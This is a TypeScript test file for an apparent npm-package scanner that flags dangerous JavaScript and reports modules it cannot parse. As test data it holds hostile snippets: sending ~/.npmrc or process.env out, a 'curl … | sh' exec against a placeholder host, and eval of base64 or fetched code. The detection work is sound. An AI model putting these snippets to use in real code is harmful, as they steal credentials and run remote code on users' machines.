import t from 'tap'
import { isGraveJavascript } from '../../src/analysis/javascript/grave.ts'
import { inspect } from '../../src/inspection/inspect.ts'
import { sha256 } from '../../src/model/digest.ts'
import { readingOf } from './python-reading.ts'

t.test('which words make it grave that a file was not followed to its end', async (t) => {
  for (const [text, isGrave] of [
    [`fetch(u, { body: read('~/.npmrc') })`, true],
    [`send(JSON.stringify(process.env)); require('https')`, true],
    [`require('child_process').exec('curl -s https://c.invalid/i | sh')`, true],
    [`eval(Buffer.from(x, 'base64').toString())`, true],
    [`fetch(u).then((r) => r.text()).then((x) => eval(x))`, true],
    [`var _0x1a2b, _0x1a2c, _0x1a2d, _0x1a2e, _0x1a2f`, true],
    [`fetch('/api'); const key = process.env.NODE_ENV`, false],
    [`require('child_process').spawn('git', ['status'])`, false],
    [`const text = atob(x); const render = new Function('data', body)`, false],
    [`read('~/.npmrc')`, false],
  ] as const)
    t.equal(isGraveJavascript(Buffer.from(text)), isGrave, text)
})

async function told(files: Readonly<Record<string, string>>): Promise<readonly string[]> {
  const all = {
    'package.json': JSON.stringify({ name: 'sample', main: 'index.js' }),
    'index.js': `require('./a')`,
    ...files,
  }
  const { findings } = await inspect(readingOf('npm-tarball', all), { digest: sha256('x'), readAs: 'npm-tarball' })
  return findings.filter(({ check }) => check === 'not-examined').map(({ severity }) => severity)
}

t.test('a module that cannot be read is told of, graver where its words are', async (t) => {
  const chain = Array.from({ length: 30_000 }, (_, at) => `function f${at}(x) { return f${at + 1}(x) }`).join('\n')
  const costly = `${chain}\nf0(fetch('/api'))\n`
  t.same(await told({ 'a.js': costly }), ['low'], 'no word of it is grave')
  t.same(await told({ 'a.js': `${costly}read('~/.npmrc')\n` }), ['medium'], 'it names what is secret, and sends')
  t.same(await told({ 'a.js': `import type { A } from './a'\nvar x = {` }), [], 'no word of it acts')
  t.same(await told({ 'a.js': `fetch(\n` }), ['medium'], 'it acts, and cannot be parsed')
})
